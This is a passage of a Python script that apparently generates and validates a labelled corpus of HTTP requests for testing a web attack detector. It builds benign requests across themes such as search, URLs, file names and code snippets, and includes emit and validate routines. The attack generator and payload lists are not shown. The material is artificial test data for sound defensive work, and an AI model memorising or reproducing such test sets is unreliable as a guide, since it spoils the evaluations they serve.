            hv = quote(v, safe=" /:,.()'")
        return request("GET", path, host, headers=[[hname, hv]], k=k)
    if p == "path":
        return request("GET", path.rstrip("/") + "/" + quote(v, safe=""), host, k=k)
    raise ValueError(p)


BENIGN_THEMES = [
    ("search", SEARCH, ["q", "query", "keywords", "s"], ["query", "json", "form", "path", "cookie", "header", "xml"]),
    ("names", NAMES, ["last_name", "full_name", "author", "contact_name"], ["form", "json", "query", "multipart", "xml", "cookie", "path"]),
    ("math", MATH, ["comment", "note", "description", "title"], ["json", "form", "multipart", "query", "xml", "header"]),
    ("urls", URLS, ["callback_url", "image_url", "website", "link"], ["json", "query", "form", "xml", "multipart", "cookie"]),
    ("encoded", ENCODED, ["token", "state", "data", "next"], ["query", "form", "json", "cookie", "header", "xml"]),
    ("unicode", UNICODE, ["address", "message", "display_name", "title"], ["json", "form", "query", "multipart", "xml", "path", "header"]),
    ("files", FILES, ["filename", "attachment_name", "name"], ["json", "multipart", "query", "form", "path", "xml"]),
    ("paths", PATHS, ["path", "local_path", "folder"], ["json", "form", "query", "xml", "multipart"]),
    ("shellish", SHELLISH, ["cell", "args", "note", "q"], ["json", "form", "query", "multipart", "header", "path"]),
    ("templates", TEMPLATES, ["template", "subject", "body"], ["json", "form", "multipart", "xml", "query"]),
    ("prose", PROSE, ["message", "review", "comment"], ["form", "json", "multipart", "query", "xml"]),
]


def benign():
    rng = random.Random(SEED + 1)
    n = 0
    for theme, values, fields, places in BENIGN_THEMES:
        for i, v in enumerate(values):
            reps = 2 if (i % 4) else 1
            for r in range(reps):
                n += 1
                p = places[(i + r * 3) % len(places)]
                if p == "header" and not header_ok(v) and rng.random() < 0.5:
                    p = "json"
                yield "benign", theme, n, benign_place(theme, v, p, n, pick(fields, i + r))
    for i, (name, val) in enumerate(COOKIES):
        n += 1
        yield "benign", "cookie", n, request("GET", pick(["/", "/cart", "/account", "/products/1042"], i),
                                             pick(["shop.example.com", "www.example.com"], i),
                                             headers=[["Cookie", "sid=%s; %s=%s" % (SESSION, name, val)]], k=n)
    for i, ua in enumerate(UA_EXTRA):
        n += 1
        yield "benign", "header", n, request("GET", pick(["/robots.txt", "/api/v1/status", "/feed.xml", "/"], i), "www.example.com",
                                             headers=[["User-Agent", ua], ["X-Forwarded-For", "203.0.113.%d, 10.0.%d.7" % (10 + i, i)]], k=n)
    # dev-content: code and SQL posted to forum / helpdesk / code review fields
    for i, snip in enumerate(DEV):
        for r in range(2):
            n += 1
            t = (i * 2 + r) % 5
            host = pick(["forum.example.org", "help.example.com", "review.example.dev"], i + r)
            if t == 0:
                body = json.dumps({"topic_id": 3100 + i, "body": "Why is this slow?\n\n```\n%s\n```" % snip, "format": "markdown"})
                req = request("POST", "/api/v1/posts", host, body=body, ctype="application/json", k=n)
            elif t == 1:
                body = "subject=%s&description=%s&priority=normal" % (quote_plus("Question about snippet %d" % i), quote_plus(snip))
                req = request("POST", "/tickets/new", host, body=body, ctype="application/x-www-form-urlencoded", k=n)
            elif t == 2:
                body = json.dumps({"path": "src/module_%d.py" % i, "line": 10 + i, "comment": "Suggest:\n" + snip, "resolved": False})
                req = request("POST", "/api/v3/reviews/%d/comments" % (800 + i), host, body=body, ctype="application/json; charset=utf-8", k=n)
            elif t == 3:
                b = pick(BOUNDARIES, n)
                body = multipart([('name="title"', "snippet %d" % i, []),
                                  ('name="file"; filename="snippet_%d.txt"' % i, snip, ["Content-Type: text/plain"])], b)
                req = request("POST", "/gists", host, body=body, ctype="multipart/form-data; boundary=" + b, k=n)
            else:
                body = ('<?xml version="1.0" encoding="UTF-8"?>\n<page><title>Snippet %d</title><content>%s</content></page>'
                        % (i, xml_text(snip, None)))
                req = request("PUT", "/wiki/api/pages/snippet-%d" % i, host, body=body, ctype="application/xml", k=n)
            yield "dev-content", "snippet", n, req


# ----------------------------------------------------------------------------- output / validate

def emit(gen, expect):
    for cat, tech, n, req in gen:
        tech = re.sub(r"[^a-z0-9+-]", "-", tech.lower())
        line = {"id": "%s/%s/%s-%03d" % (SET, cat, tech, n), "set": SET, "category": cat, "expect": expect}
        line.update(req)
        sys.stdout.write(json.dumps(line, ensure_ascii=False) + "\n")


def validate(paths):
    ok = True
    seen = set()
    for path in paths:
        cats = collections.Counter()
        techs = collections.Counter()
        with open(path, encoding="utf-8") as f:
            for ln, text in enumerate(f, 1):
                try:
                    d = json.loads(text)
                except ValueError as e:
                    print("%s:%d: bad json: %s" % (path, ln, e))
                    ok = False
                    continue
                if d["id"] in seen:
                    print("%s:%d: duplicate id %s" % (path, ln, d["id"]))
                    ok = False
                seen.add(d["id"])
                if d.get("set") != SET or d.get("expect") not in ("detect", "pass"):
                    print("%s:%d: bad set/expect" % (path, ln))
                    ok = False
                if "raw_b64" in d:
                    raw = base64.b64decode(d["raw_b64"])
                    head, _, body = raw.partition(b"\r\n\r\n")
                    cl = [l.split(b":", 1)[1].strip() for l in head.split(b"\r\n")[1:] if l.lower().startswith(b"content-length:")]
                    if (cl and int(cl[0]) != len(body)) or (not cl and body):
                        print("%s:%d: raw Content-Length mismatch" % (path, ln))
                        ok = False
                else:
                    for key in ("method", "uri", "version", "headers"):
                        if key not in d:
                            print("%s:%d: missing %s" % (path, ln, key))
                            ok = False
                    hs = {h[0].lower(): h[1] for h in d["headers"]}
                    if "host" not in hs or "user-agent" not in hs:
                        print("%s:%d: missing Host/User-Agent" % (path, ln))
                        ok = False
                    if "body" in d:
                        if "content-type" not in hs or hs.get("content-length") != str(len(d["body"].encode("utf-8"))):
                            print("%s:%d: Content-Type/Length wrong" % (path, ln))
                            ok = False
                    for name, value in d["headers"]:
                        if any(c in value for c in "\r\n\x00"):
                            print("%s:%d: control char in header %s" % (path, ln, name))
                            ok = False
                    if any(c in d["uri"] for c in " \r\n\t"):
                        print("%s:%d: whitespace in uri" % (path, ln))
                        ok = False
                cats[d["category"]] += 1
                techs[d["id"].split("/")[2].rsplit("-", 1)[0]] += 1
        print("%s: %d lines" % (path, sum(cats.values())))
        for c, cnt in sorted(cats.items()):
            print("  category %-12s %4d" % (c, cnt))
        print("  techniques: " + ", ".join("%s=%d" % kv for kv in sorted(techs.items())))
    print("OK" if ok else "FAILED")
    return ok


def main(argv):
    if len(argv) >= 2 and argv[1] == "attacks":
        emit(attacks(), "detect")
    elif len(argv) >= 2 and argv[1] == "benign":
        emit(benign(), "pass")
    elif len(argv) >= 3 and argv[1] == "validate":
        return 0 if validate(argv[2:]) else 1
    else:
        sys.stderr.write("usage: corpus-mutations.py attacks|benign|validate FILE...\n")
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
